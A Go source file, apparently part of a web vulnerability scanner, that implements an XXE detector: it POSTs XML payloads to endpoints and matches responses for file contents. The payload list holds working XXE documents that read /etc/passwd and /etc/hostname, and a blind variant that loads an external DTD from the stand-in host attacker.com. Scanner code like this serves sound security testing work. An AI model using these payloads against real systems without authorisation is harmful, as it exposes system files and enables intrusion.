// Package xxe detects XML External Entity processing on endpoints that
// look like they accept XML. Each payload is POSTed as the request body.
package xxe

import (
	"context"
	"fmt"
	"log/slog"
	"net/http"
	"strings"

	"github.com/shadowprobe/shadowprobe/pkg/attackconfig"
	"github.com/shadowprobe/shadowprobe/pkg/defaults"
	"github.com/shadowprobe/shadowprobe/pkg/finding"
	"github.com/shadowprobe/shadowprobe/pkg/httpclient"
	"github.com/shadowprobe/shadowprobe/pkg/probe"
)

const Name = "XXE Scanner"

// Payloads are complete XML documents. Blind and SVG variants need an
// out-of-band channel to confirm and never match on body text.
var Payloads = []probe.Payload{
	{
		Description: "Classic XXE with SYSTEM entity",
		Value: `<?xml version="1.0"?>
<!DOCTYPE foo [
<!ELEMENT foo ANY>
<!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<foo>&xxe;</foo>`,
		Patterns: []string{"root:", "/bin/bash"},
	},
	{
		Description: "XXE with parameter entity",
		Value: `<?xml version="1.0"?>
<!DOCTYPE foo [
<!ENTITY % xxe SYSTEM "file:///etc/passwd">
%xxe;
]>
<foo>test</foo>`,
		Patterns: []string{"root:"},
	},
	{
		Description: "Blind XXE with external DTD",
		Value: `<?xml version="1.0"?>
<!DOCTYPE foo [
<!ENTITY % xxe SYSTEM "http://attacker.com/evil.dtd">
%xxe;
]>
<foo>test</foo>`,
	},
	{
		Description: "XXE via SVG upload",
		Value: `<?xml version="1.0" standalone="yes"?>
<!DOCTYPE test [
<!ENTITY xxe SYSTEM "file:///etc/hostname">
]>
<svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg">
<text font-size="16" x="0" y="16">&xxe;</text>
</svg>`,
	},
	{
		Description: "XXE with CDATA",
		Value: `<?xml version="1.0"?>
<!DOCTYPE foo [
<!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<foo><![CDATA[&xxe;]]></foo>`,
		Patterns: []string{"root:"},
	},
}

// Indicators mark URLs that plausibly accept an XML body.
var Indicators = []string{"/api/xml", "/xml", "/soap", "/wsdl", ".xml", "/upload", "/import"}

// LooksLikeXMLEndpoint reports whether endpoint contains any indicator.
func LooksLikeXMLEndpoint(endpoint string) bool {
	for _, ind := range Indicators {
		if strings.Contains(endpoint, ind) {
			return true
		}
	}
	return false
}

const remediation = "Disable external entity processing in XML parsers. Use safe XML parsing libraries. Validate and sanitize all XML input."

type Config struct {
	attackconfig.Base
	Payloads []probe.Payload
}

func DefaultConfig() Config {
	return Config{Payloads: Payloads}
}

type Detector struct {
	config Config
}

var _ probe.Detector = (*Detector)(nil)

func New(cfg Config) *Detector {
	cfg.Validate()
	if len(cfg.Payloads) == 0 {
		cfg.Payloads = Payloads
	}
	return &Detector{config: cfg}
}

func (d *Detector) Name() string { return Name }

func (d *Detector) Class() finding.Class { return finding.XXE }

// Scan posts every payload to endpoint. Endpoints that do not look like
// XML receivers are skipped without any request.
func (d *Detector) Scan(ctx context.Context, endpoint string) []*finding.Vulnerability {
	if !LooksLikeXMLEndpoint(endpoint) {
		return nil
	}

	var out []*finding.Vulnerability
	for _, p := range probe.Limit(d.config.Payloads, d.config.MaxPayloads) {
		if ctx.Err() != nil {
			return out
		}

		req := httpclient.Post(endpoint, defaults.ContentTypeXML, []byte(p.Value))
		resp, err := d.config.Client.Do(ctx, req)
		if err != nil {
			if ctx.Err() != nil {
				return out
			}
			d.config.Logger.Debug("xxe probe failed",
				slog.String("url", endpoint),
				slog.String("payload", p.Description),
				slog.String("error", err.Error()))
			continue
		}

		evidence, ok := probe.BodyMatcher(resp, p, endpoint)
		if !ok {
			continue
		}

		v := finding.New(finding.XXE, endpoint)
		v.Method = http.MethodPost
		v.Payload = p.Value
		v.Evidence = evidence
		v.Description = fmt.Sprintf("XML External Entity (XXE) vulnerability detected using %s. The application parses XML with external entities enabled.", p.Description)
		v.Remediation = remediation
		v.PoC = probe.PoC{URL: endpoint, ContentType: defaults.ContentTypeXML, Body: p.Value}.String()

		out = append(out, v)
		d.config.NotifyVulnerabilityFound(v)
	}
	return out
}
